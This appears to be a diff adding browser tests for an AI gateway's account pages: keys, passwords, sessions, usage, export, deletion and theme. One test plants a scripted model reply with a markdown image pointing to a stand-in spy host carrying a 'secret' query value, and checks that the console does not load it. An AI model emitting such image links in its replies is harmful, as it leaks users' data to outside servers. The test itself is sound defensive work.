@@ -1,0 +1,169 @@
+"""One's own account in the browser: keys, profile, password, usage, export, deletion."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import httpx
+from openai import AsyncOpenAI
+from playwright.async_api import BrowserContext, Page, expect
+
+from tests.console.browser import Watch, ask
+from tests.gateway_server import PASSWORD, Gateway, Person
+from tests.upstreams.openai_server import OpenAIUpstream, Reply
+
+Profile = tuple[BrowserContext, Watch]
+
+
+async def test_a_keys_secret_is_shown_once_with_lines_that_work(
+    page: Page, gateway: Gateway, upstream: OpenAIUpstream
+) -> None:
+    upstream.script(Reply(text=["Good day."]))
+    await page.goto("/account/keys")
+    await page.get_by_role("button", name="New key").click()
+    form = page.get_by_role("dialog", name="New key")
+    await form.get_by_label("Name").fill("my program")
+    await form.get_by_role("checkbox", name="make images").uncheck()
+    await form.get_by_role("button", name="Create the key").click()
+
+    shown = page.get_by_role("dialog", name="Your new key")
+    blocks = shown.locator("pre")
+    secret = await blocks.nth(0).inner_text()
+    assert secret.startswith("gw_")
+    curl, python = await blocks.nth(1).inner_text(), await blocks.nth(2).inner_text()
+    assert f"curl {gateway.url}/v1/chat/completions" in curl
+    assert f'base_url="{gateway.url}/v1", api_key="{secret}"' in python
+    async with AsyncOpenAI(base_url=f"{gateway.url}/v1", api_key=secret) as client:
+        answer = await client.chat.completions.create(
+            model="auto", messages=[{"role": "user", "content": "Say hello."}]
+        )
+    assert answer.choices[0].message.content == "Good day."
+
+    await shown.get_by_role("button", name="I have copied it").click()
+    await expect(shown).to_have_count(0)
+    table = page.get_by_role("table", name="API keys")
+    await expect(table).to_contain_text("my program")
+    await expect(table).to_contain_text("chat, make embeddings, list models, read usage")
+    assert secret not in await page.content()
+    await page.reload()
+    await expect(table).to_contain_text("my program")
+    assert secret not in await page.content()
+
+    await page.get_by_role("button", name="Revoke my program").click()
+    await page.get_by_role("dialog").get_by_role("button", name="Revoke").click()
+    await expect(page.get_by_text("No keys yet")).to_be_visible()
+    refused = await gateway.http.get("/v1/models", headers={"authorization": f"Bearer {secret}"})
+    assert refused.status_code == 401
+
+
+async def test_name_and_password_are_changed_and_mistakes_are_told(page: Page, person: Person) -> None:
+    await page.goto("/account")
+    await page.get_by_label("Name").fill("Ada L.")
+    await page.get_by_role("button", name="Save").click()
+    await expect(page.get_by_role("button", name="Ada L.")).to_be_visible()
+    await page.get_by_role("link", name="Password").click()
+    await page.get_by_label("Current password").fill("not this one at all")
+    await page.get_by_label("New password").fill("sixteen grey herons")
+    await page.get_by_role("button", name="Change the password").click()
+    await expect(page.get_by_text("The current password is wrong.")).to_be_visible()
+    await page.get_by_label("Current password").fill(PASSWORD)
+    await page.get_by_role("button", name="Change the password").click()
+    await expect(page.get_by_text("The password is changed.")).to_be_visible()
+
+
+async def test_a_session_elsewhere_is_ended(page: Page, gateway: Gateway, person: Person) -> None:
+    await page.goto("/account/sessions")
+    table = page.get_by_role("table")
+    await expect(table.get_by_role("row")).to_have_count(3)
+    await table.get_by_role("button", name="End the session").click()
+    await expect(table.get_by_role("row")).to_have_count(2)
+    ended = await gateway.http.get("/api/user/me", headers=person.headers)
+    assert ended.status_code == 401
+
+
+async def test_usage_is_shown_against_its_limits(page: Page, upstream: OpenAIUpstream) -> None:
+    upstream.script(Reply(text=["Yes."], usage=(1000, 500)))
+    await ask(page, "Used?")
+    await expect(page.get_by_role("button", name="Answer again")).to_be_visible()
+    await page.goto("/account/usage")
+    await expect(page.get_by_text("1,500 of 10,000,000")).to_be_visible()
+    await expect(page.get_by_text("$0.002 of $50.00")).to_be_visible()
+    await expect(page.get_by_role("table", name="By model, this month")).to_contain_text("scripted")
+    await expect(page.get_by_role("table", name="By key, this month")).to_contain_text("Signed in")
+
+
+async def test_everything_is_taken_along_and_the_account_is_gone(
+    profile: Profile, page: Page, gateway: Gateway, person: Person, upstream: OpenAIUpstream, tmp_path: Path
+) -> None:
+    upstream.script(Reply(text=["Kept."]))
+    await ask(page, "Keep this.")
+    await expect(page.get_by_role("button", name="Answer again")).to_be_visible()
+    await page.goto("/account/data")
+    async with page.expect_download() as downloading:
+        await page.get_by_role("button", name="Download").click()
+    download = await downloading.value
+    await download.save_as(tmp_path / "export.json")
+    exported = (tmp_path / "export.json").read_text(encoding="utf-8")
+    assert json.loads(exported)
+    assert "Keep this." in exported
+
+    await page.get_by_role("button", name="Delete the account").click()
+    await page.get_by_label("Password").fill(PASSWORD)
+    await page.get_by_role("button", name="Delete it for good").click()
+    await expect(page.get_by_role("button", name="Sign in")).to_be_visible()
+    gone: httpx.Response = await gateway.http.post(
+        "/api/auth/login", json={"email": person.email, "password": PASSWORD}
+    )
+    assert gone.status_code == 401
+
+
+async def test_pictures_of_the_gateway_are_shown_and_others_are_not_loaded(
+    page: Page, gateway: Gateway, person: Person, upstream: OpenAIUpstream
+) -> None:
+    made = await gateway.http.post(
+        "/api/v1/media/image/generate",
+        json={"prompt": "a mug", "width": 64, "height": 64},
+        headers=person.headers,
+    )
+    assert made.status_code == 200, made.text
+    address = made.json()["images"][0]["url"]
+    upstream.script(
+        Reply(
+            text=[
+                f"![a mug]({address})\n\n![spy](https://spy.example/pixel.png?q=secret)\n\n![none](/api/v1/media/images/{person.id})"
+            ]
+        )
+    )
+    await ask(page, "Show me.")
+    picture = page.locator("img[alt='a mug']")
+    await expect(picture).to_be_visible()
+    assert (await picture.get_attribute("src") or "").startswith("blob:")
+    assert (
+        await picture.evaluate("async (image) => { await image.decode(); return image.naturalWidth; }") == 64
+    )
+    await expect(page.get_by_text("Picture from elsewhere, not loaded:")).to_be_visible()
+    await expect(page.get_by_role("link", name="https://spy.example/pixel.png?q=secret")).to_be_visible()
+    await expect(page.get_by_text("This picture is not there any more.")).to_be_visible()
+
+
+async def test_the_language_and_the_theme_are_chosen_and_kept(page: Page, person: Person) -> None:
+    await page.get_by_role("button", name=person.email).click()
+    await page.get_by_role("menuitemradio", name="Dark").click()
+    await page.get_by_role("menuitemradio", name="한국어").click()
+    await expect(page.get_by_role("heading", name="무엇이 궁금하신가요?")).to_be_attached()
+    await page.reload()
+    await expect(page.get_by_role("heading", name="무엇이 궁금하신가요?")).to_be_visible()
+    assert await page.evaluate("[document.documentElement.lang, document.documentElement.dataset.theme]") == [
+        "ko",
+        "dark",
+    ]
+
+
+async def test_the_page_that_was_asked_for_comes_after_signing_in(profile: Profile, person: Person) -> None:
+    page = await profile[0].new_page()
+    await page.goto("/account/keys")
+    await page.get_by_label("E-mail address").fill(person.email)
+    await page.get_by_label("Password").fill(PASSWORD)
+    await page.get_by_role("button", name="Sign in").click()
+    await expect(page.get_by_text("No keys yet")).to_be_visible()
